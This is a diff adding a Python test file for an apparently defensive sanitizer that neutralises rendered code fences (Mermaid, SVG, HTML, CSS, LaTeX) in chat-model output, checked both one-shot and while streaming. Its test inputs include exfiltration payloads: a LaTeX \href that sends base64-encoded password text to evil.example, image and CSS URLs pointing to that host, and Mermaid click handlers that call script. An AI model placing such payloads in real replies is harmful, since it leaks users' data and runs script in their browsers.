@@ -1,0 +1,159 @@
+"""Fences a chat UI renders (`Policy.rendered_fences`): judged as what they become when
+declared, left as code when not, and held whole by a stream.
+
+The cases are tests/fixtures/rendered/*.md, one file per language, and `readings.md`
+for fences some renderer reads as prose (their expected
+outputs, reasons, idempotence and stream == one-shot run with every fixture); what
+the real renderers make of them is tests/test_rendered_fences_live.py.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from conftest import policy_for
+from fixture_files import FIXTURES, Case, read_cases
+from rendersafe import Construct, Policy, PolicyError, Sanitizer
+from rendersafe.config import load_policy
+from rendersafe.policy import RENDERED_FENCES
+
+RENDERED = FIXTURES / "rendered"
+CASES = [case for path in sorted(RENDERED.glob("*.md")) for case in read_cases(path)]
+ATTACKS = [case for case in CASES if not case.benign]
+POLICY = policy_for(RENDERED)
+DECLARED = Sanitizer(POLICY)
+UNDECLARED = Sanitizer(POLICY.model_copy(update={"rendered_fences": ()}))
+# Fences every renderer reads as code (`readings.md` holds those some read as prose).
+CODE = [case for case in CASES if case.path.stem != "readings"]
+FENCED = [c for c in ATTACKS if c.input.startswith("```")]
+
+
+def test_at_least_forty_attacks_from_every_language() -> None:
+    by_file: dict[str, int] = {}
+    for case in ATTACKS:
+        by_file[case.path.stem] = by_file.get(case.path.stem, 0) + 1
+    assert len([c for c in ATTACKS if c in CODE]) >= 40
+    assert all(by_file.get(name, 0) >= 4 for name in ("html", "svg", "css", "mermaid", "tex"))
+    # Honest fences in every language stay byte for byte (`<unchanged>` cases).
+    assert {c.path.stem for c in CASES if c.benign} >= {"html", "svg", "css", "mermaid", "tex"}
+
+
+@pytest.mark.parametrize("case", CODE, ids=[c.id for c in CODE])
+def test_undeclared_languages_stay_code(case: Case) -> None:
+    """The same policy without `rendered_fences`: every case, attack or not, comes back
+    byte for byte (a code answer's fences are code; `readings.md`'s are not code to
+    every renderer, and were judged before)."""
+    result = UNDECLARED.run(case.input, conversation=case.conversation)
+    assert result.text == case.input
+    assert result.findings == ()
+
+
+@pytest.mark.parametrize("case", [c for c in CODE if not c.benign], ids=lambda c: c.id)
+def test_findings_name_the_fence_and_its_language(case: Case) -> None:
+    result = DECLARED.run(case.input, conversation=case.conversation)
+    openers = [line.strip("`") for line in case.input.splitlines() if line.startswith("```")]
+    languages = {opener.split()[0] for opener in openers if opener}
+    assert result.findings
+    for finding in result.findings:
+        assert finding.kind == Construct.RENDERED_FENCE
+        language = (finding.detail or "").partition(":")[0]
+        assert language in (languages or {"$$"}), (finding.detail, languages)
+
+
+@pytest.mark.parametrize("case", FENCED, ids=[c.id for c in FENCED])
+def test_a_stream_holds_the_fence_until_it_closes(case: Case) -> None:
+    """Fed a character at a time, the stream sends nothing of the fence (from its opening
+    backticks) before its closing line has arrived: LibreChat renders a Mermaid fence
+    while it streams, and a fence judged whole may lose its first line."""
+    text = case.input
+    closing = text.rindex("```") + 3
+    stream, sent = DECLARED.stream(conversation=case.conversation), ""
+    for at, char in enumerate(text):
+        sent += stream.feed(char)
+        if at < closing - 1:
+            assert sent == "", (at, sent)
+    sent += stream.close()
+    assert sent == case.expected
+
+
+def test_math_in_prose_is_held_from_a_macro_that_may_fetch() -> None:
+    text = "The rate is\n\n$$\\def\\h{\\href}\\h{https://evil.example/x}{y}$$\n\nand more.\n"
+    stream, sent = DECLARED.stream(), ""
+    for char in text[: text.index("$$\n\nand")]:
+        sent += stream.feed(char)
+    assert sent.startswith("The rate is")
+    assert "\\def" not in sent
+    sent += stream.feed(text[text.index("$$\n\nand") :]) + stream.close()
+    assert sent == DECLARED.run(text).text
+    assert "\\def" not in sent
+
+
+LONG = Sanitizer(POLICY.model_copy(update={"max_hold_chars": 256}))
+
+
+@pytest.mark.parametrize("size", [1, 7, 64])
+def test_a_fence_past_the_hold_limit_is_judged_in_pieces(size: int) -> None:
+    """A fence longer than `max_hold_chars` is cut like any unit: each piece is read
+    inside the fence and judged, the stream equals one-shot, and a second run changes
+    nothing."""
+    lines = "".join(f"  N{i}[Step {i}] --> N{i + 1}[Step {i + 1}]\n" for i in range(20))
+    text = (
+        '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD\n'
+        + lines
+        + "  click N3 call alert(1)\n"
+        + lines
+        + "  N1[\"<img src='https://evil.example/late.png'>\"]\n```\n\nAfter.\n"
+    )
+    expected = LONG.run(text)
+    assert "securityLevel" not in expected.text
+    assert "call alert" not in expected.text
+    assert "evil.example" not in expected.text
+    assert lines in expected.text
+    stream = LONG.stream()
+    out = "".join(stream.feed(text[i : i + size]) for i in range(0, len(text), size))
+    assert out + stream.close() == expected.text
+    assert stream.findings == expected.findings
+    assert LONG.run(expected.text).text == expected.text
+
+
+def test_the_policy_reads_rendered_fences_from_toml_and_the_environment(tmp_path: Path) -> None:
+    path = tmp_path / "p.toml"
+    path.write_text('rendered_fences = ["HTML", "mermaid", "$$"]\n')
+    assert load_policy(path, environ={}).rendered_fences == ("html", "mermaid", "$$")
+    environ = {"RENDERSAFE_RENDERED_FENCES": "svg,math"}
+    assert load_policy(environ=environ).rendered_fences == ("svg", "math")
+    assert Policy().rendered_fences == ()
+    with pytest.raises(PolicyError, match=r"rendered_fences.*jsx"):
+        Policy(rendered_fences=["html", "jsx"])
+    assert set(RENDERED_FENCES) >= {"html", "htm", "xhtml", "svg", "mermaid", "math", "latex", "$$"}
+
+
+_PIECES = (
+    "```mermaid\n", "```svg\n", "```html\n", "```math\n", "```css\n", "```\n", "~~~svg\n",
+    "\n\n", "text ", "  ", "<img src=https://evil.example/x.png>", "click A call f()\n",
+    '%%{init: {"securityLevel": "loose"}}%%\n', "A[\"<b onclick=x>b</b>\"]\n",
+    "\\href{https://evil.example/?d=dGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIy}{x}",
+    "\\def\\h{\\href}", "$$", "<image href='//evil.example/i.png'/>", "<svg>", "</svg>",
+    "background:url(https://evil.example/u.png);", "<style>", "</style>", "> ", "- ",
+    "<!--", "-->", "[a](https://docs.example.com/x)", "`", "\\includegraphics{x}",
+)  # fmt: skip
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(st.sampled_from(_PIECES), max_size=24).map("".join), st.data())
+def test_rendered_soup_settles_and_streams_as_one_shot(text: str, data: st.DataObject) -> None:
+    expected = DECLARED.run(text)
+    assert DECLARED.run(expected.text).text == expected.text
+    sizes = data.draw(st.lists(st.integers(1, 9), min_size=1, max_size=8))
+    stream, out, at = DECLARED.stream(), list[str](), 0
+    while at < len(text):
+        size = sizes[len(out) % len(sizes)]
+        out.append(stream.feed(text[at : at + size]))
+        at += size
+    out.append(stream.close())
+    assert "".join(out) == expected.text
+    assert stream.findings == expected.findings
